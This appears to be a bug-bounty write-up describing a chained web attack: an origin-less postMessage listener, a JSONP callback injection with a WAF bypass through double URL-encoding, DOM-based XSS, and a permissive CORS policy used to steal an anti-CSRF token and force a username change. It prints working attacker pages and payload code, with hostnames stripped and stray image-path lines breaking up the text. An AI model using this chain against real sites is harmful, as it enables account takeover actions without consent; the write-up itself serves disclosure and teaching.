A few months ago, while hunting on a public bug-bounty programme, I found a nice little bug chain that involved

  • an insecure message event listener,
  • a shoddy JSONP endpoint,
  • a WAF bypass,
  • DOM-based XSS on an out-of-scope subdomain,
  • a permissive CORS configuration,

all to achieve CSRF against an in-scope asset. Read on for a deep dive about it.

Be aware that I’ve redacted some identifying information in order to protect the target organisation’s anonymity; I’ve also omitted some unimportant details in order to make the story of this bug chain more entertaining.

On the hunt for an elusive CSRF

The scope of my target’s bug-bounty programme was limited to and a few other subdomains of At that point, I had run outof ideas for finding vulnerabilities there. The possibility of an exploitable cross-site request forgery (CSRF) lingered in my mind, though…

I had noticed that some subdomains, such as, could perform sensitive actions (such as updating the authenticated user’s profile) by issuing POST requests to endpoints rooted at Authentication of such requests relied on ambient authority, in the form of a cookie named sid and marked SameSite=None and Secure.

Unfortunately, those endpoints required, as a defence against CSRF, the presence of a token (tied to the authenticated user’s session) in a query parameter named csrftoken. Client code running in the context of would retrieve that anti-CSRF token via an authenticated GET request to, which was accordingly configured for CORS.

Furthermore, I couldn’t find a straightforward way to steal that anti-CSRF token from my victim. In my quest for CSRF, I had seemingly hit a brick wall.

A permissive CORS policy drives me out of scope

When my progress on a target stalls like this, I typically start exploring out-of-scope assets in the hope of discovering and abusing a trust relationship they have with some in-scope assets. After further testing the endpoint, I realised that its CORS configuration allowed, not just origin, but any Web origin made up of some arbitrary subdomain of

$ curl -sD - -o /dev/null \
  -H "Origin:" \
  -H "Cookie: sid=xxx-yyy-zzz" \
HTTP/1.1 200 OK
Vary: Origin

Therefore, if I could discover an instance of cross-site scripting (XSS) on any subdomain (even an out-of-scope one), I would be able to steal my victim’s anti-CSRF token and thenmount CSRF attacks against endpoints. With this plan in mind, I set out to scrutinise out-of-scope subdomains of

Insecure message event listener on out-of-scope subdomain

Equipped with Frans Rosén’s excellent postMessage-tracker Chrome extension, I quickly homed in on, which had an intriguing listener on 'message' events:

function handleMessageEvent(e) {
  try {
    var t = e;
    if (void 0 !== && (t =, "string" == typeof t) {
      try {
        t = JSON.parse(t)
      } catch (e) {
        return !1
    if (void 0 === t.method) return !1;
    var n, r = t.method.split(".");
    if (!(r.length > 0 && "APP" === r[0])) return !1;
    n = window;
    for (var a = 0; a < r.length; a++) {
      if (void 0 === n[r[a]]) {
        throw APP.Exception("COMMUNICATION_SECURITY");n = n[r[a]]
    if ("function" != typeof n) {
      throw APP.Exception("COMMUNICATION_SECURITY");
  } catch (e) {
  return !1

The conspicuous absence of anorigin check from that event listener implies that any malicious page (deployed anywhere on the Web) that holds a reference to a document whose location is can send that documentmalicious Web messages, and those messages would unconditionally get accepted and processed. With what impact? That entirely depends on the logic of the listener. A casual static analysis of the code indicates that, on its “happy path”, the message event listener does the following:

  1. Parse the event’s data property as JSON and stored the result in an object named t.
  2. Split the method property on periods.
  3. Use the result of step 2 to iteratively access nested properties of some window.APPobject (declared elsewhere in the client).
  4. Call the function thus obtained and pass it a property named arg of object t (see step 1) as argument.

In summary, my malicious page could send a specially crafted Web message to in order to trigger the execution of some malicious JavaScript code in the context of Web origin For instance, consider the following string:

`{"method": "","arg":"qux"}`

On the condition that expression be defined and actually be a function, sending the aforementioned string as a Web message to would lead the latter to execute the following JavaScript code:'qux')

Unfortunately, the listener’s logic limited this vector for DOM-based XSS to calls to functions accessible through the window.APP object, and with a single arbitrary argument of type string. Try as I may, I couldn’t find a way to access powerful DOM functionalities like eval or Function’s constructor in order to escalate this finding to unrestricted DOM-based XSS. Faced with this constraint, I had no other option than to painstakingly explore the properties of the window.APP object.

Perhaps a simpler solution escaped me then; I have no doubt that perceptive readers who are XSS experts or who simply have perused Gareth Heyes’s recently released book, JavaScript for Hackers, will point one out to me. Gareth, I promise you that your book is next onmy reading list!

Setting cookies across origins, to no avail

A function named APP.util.setCookie immediately stood out. As its name implies, it allowed callers to set arbitrary cookies on the domain. For example, a malicious cross-origin page could set a cookie named foo with value bar on like so:

const win ='');
// omitted: wait a few seconds for the page to load
const msg = `{"method":"APP.util.setCookie", "arg":"foo=bar"}`;
win.postMessage(msg, '*');

The ability to set cookies across Web origins often helps Web attackers gain a foothold on their target: it may allow them to achieve session fixation, unlock otherwise seldom exploitable cookie-based XSS, defeat some implementations of the double-submit-cookie defence against CSRF, etc. Sadly, I could not find a way to abuse that APP.util.setCookie function to cause real damage.

A shoddy JSONP endpoint leads to DOM-based XSS

However, a function named window.APP.apiCall eventually caught my eye:

function apiCall(t, n, r, a) {try {
        "/" !== t[0] && (t = "/" + t);
        var o = t.split("?"),
            i = [];
        if (o.length > 1 && (t = o[0],
                i = o[1].split("&")),
            t = "" + t,
            "get" !== n && i.push("request_method=" +n),
            null !== r)
            for (var c in r)
                ({}), c) &&
                  i.push(c + "=" + encodeURIComponent(r[c]));
            null !== e.token && i.push("access_token=" + e.token),
            i.push("version=js-v" + e._version),
                path: t,
                path_args: i,
                callback: a,callback_name: "callback"
    } catch (t) {

I’ll spare you from the labyrinthine and irrelevant details of that function. Only two observations about window.APP.apiCall matter:

  • window.APP.apiCall is designed to send a request to a JSONP endpoint on and load the response as an external script (in the context of Web origin; and
  • window.APP.apiCall doesn’t build the JSONP URL in a particularly secure way.

Further dynamic tests on this JSONP endpoint revealed that it was protected by Akamai’s Web-application firewall (WAF). But I serendipitously discovered that, thanks to some questionable URL parsing on the server side, this obstacle could easily be bypassed. For an illustrative example, consider this first request and its 403 response from Akamai:

HTTP/2 403 Forbidden
Server: AkamaiGHost

Now consider this second request (note the absence of a ? marking the beginning of the URL’s querystring) and its 200 response from the origin server:

HTTP/2 200
Server: Apache
Content-Length: 59
Content-Type: text/javascript; charset=utf-8

alert({"error":{"msg":"Unknown path components: \/get"}})

Moreover, the JSONP endpoint was very lenient in the validation of its callback; on the condition that the value of the callback query parameter be (fully) doubly URL-encoded, the JSONP endpoint would accept it:

HTTP/2 200
Content-Type: text/javascript; charset=utf-8

alert('xss')//({"error":{"msg":"Unknown path components: \/get"}})

Happy days! I could now craft a malicious page that would send a Web message to designed to trick the latter into hitting the JSONP endpoint with a payload of my choice. And as a result, I could get arbitrary JavaScript code (e.g. alert(document.domain)) to execute in the context of Web origin

const url = '';
const win =;
// omitted: wait a few seconds for the page to load
const msg = {
  'method':'APP.apiCall',
  'arg': '&callback=alert%2528document.domain%2529%252f%252f&output=jsonp#'
win.postMessage(JSON.stringify(msg), '*');

Now armed with this unrestricted DOM-based XSS on Web origin (which, as you may recall, was allowed in the CORS configuration of the resource), I had a way to steal my victim’s anti-CSRF token.

The need for one-click user interaction

In order to send Web messages to their intended destination (, my malicious page first needed to acquire a reference to either an iframe or a window opened on that page. Unfortunately, cross-origin framing of was out of the question because all of my target’s responses invariably contained the following header:

X-Frame-Options: SAMEORIGIN

However, I could instead design my malicious page to open in a pop-up window at the expense of a modicum of user interaction—necessary for bypassing the browser’s pop-up blocker—such as clicking a button.

Putting it all together for a one-click CSRF

I deployed the following static page to<!doctype html>
    <meta charset="utf-8">
      function encode(str) {
        return encodeURIComponent(str).replace(
          (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`,
      var win;
      function sendMsg() {
        const url = new URL("");
        if (typeof win === 'undefined') {
           win = open(url);const delayMs = 2000;
        const payload = new URLSearchParams(
        setTimeout(() => {
          const doubleEncodedPayload = encode(encode(`${payload}//`));
          const msg = {
            'method': 'APP.apiCall',
            'arg': `&callback=${doubleEncodedPayload}&output=jsonp#`
          win.postMessage(JSON.stringify(msg), url.origin);
        }, delayMs);
    <input type=button value="Click me!" onclick="sendMsg();">

The page consists of a single button, a click on which would cause my malicious payload to execute on Note that, for testing purposes, I opted to parameterise the malicious payload via a query parameter named payload. I also deployed the following JavaScript file to

async function stealToken() {
  const url = '';
  const opts = {method: 'POST', credentials: 'include'};
  return await fetch(url, opts)
    .then(body => body.json())
    .then(data => data.csrftoken);
async function csrf() {
  const token = await stealToken();
  const url = `${token}`;
  const randomString = (Math.random() + 1).toString(36).substring(7);
  const data = {'username':`PWNED_${randomString}`};
  const opts = {
    method: 'POST',
    credentials: 'include',
    body: JSON.stringify(data)
fetch(url, opts);

I could then lure a victim authenticated on to the following URL:

If my victim subsequently clicked thebutton, she would unwittingly update her username on to a telltale value of something like PWNED_ysp4d.


I promptly reported my findings through my target’s bug-bounty programme with a CVSS vector of AV:N/AC:L/PR:N/UI:R/S:U/C:L/I:H/A:N (7.1 High). According to their reward table, High paid just under €1,000. I was hopeful that, despite the need for userinteraction, my perseverance and the complexity of my bug chain would compel the triage team to throw in a small bonus for good measure.

